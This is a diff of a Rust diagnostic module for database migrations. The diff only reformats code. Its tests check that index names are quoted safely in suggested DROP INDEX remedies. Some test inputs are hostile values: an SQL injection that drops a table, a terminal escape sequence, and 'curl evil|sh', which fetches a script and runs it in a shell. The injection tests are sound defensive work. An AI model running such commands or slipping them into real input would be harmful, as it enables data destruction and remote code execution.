@@ -24,13 +24,8 @@ pub(crate) static CAUSE: Cause = Cause {
 };
 
 /// Begins the names of migrations that build an index CONCURRENTLY and fail when it is there, whether it is valid or not.
-const BUILDS_INDEX: &[&str] = &[
-    "features.0036_",
-    "features.0050_",
-    "features.0062_",
-    "task_processor.0004_",
-    "task_processor.0005_",
-];
+const BUILDS_INDEX: &[&str] =
+    &["features.0036_", "features.0050_", "features.0062_", "task_processor.0004_", "task_processor.0005_"];
 
 /// Where the name of an index is to be put.
 const INDEX: &str = "INDEX_NAME";
@@ -132,29 +127,15 @@ mod tests {
     #[case("x\"; DROP TABLE t; --", "CONCURRENTLY \"x\"\"; DROP TABLE t; --\";")]
     #[case("\"a\u{1b}[2J\n\"", "CONCURRENTLY INDEX_NAME;")]
     fn names_of_a_database_are_quoted(#[case] index: &str, #[case] expected: &str) {
-        let observation = with_preflight(Preflight {
-            invalid_indexes: vec![index.to_owned()],
-            ..good()
-        });
+        let observation = with_preflight(Preflight { invalid_indexes: vec![index.to_owned()], ..good() });
         let found = diagnose(&installation(&minimal()), &observation);
         assert_eq!(found[0].code, Code::InvalidIndexLeft);
-        assert_eq!(
-            found[0].remedy.matches(expected).count(),
-            2,
-            "{}",
-            found[0].remedy
-        );
+        assert_eq!(found[0].remedy.matches(expected).count(), 2, "{}", found[0].remedy);
     }
 
     #[rstest]
-    #[case(
-        "notes_idx",
-        "'notes_idx'::regclass; when it is false: DROP INDEX CONCURRENTLY notes_idx;"
-    )]
-    #[case(
-        "it's_idx",
-        "'\"it''s_idx\"'::regclass; when it is false: DROP INDEX CONCURRENTLY \"it's_idx\";"
-    )]
+    #[case("notes_idx", "'notes_idx'::regclass; when it is false: DROP INDEX CONCURRENTLY notes_idx;")]
+    #[case("it's_idx", "'\"it''s_idx\"'::regclass; when it is false: DROP INDEX CONCURRENTLY \"it's_idx\";")]
     #[case(
         "x;curl evil|sh_idx",
         "'\"x;curl evil|sh_idx\"'::regclass; when it is false: DROP INDEX CONCURRENTLY \"x;curl evil|sh_idx\";"
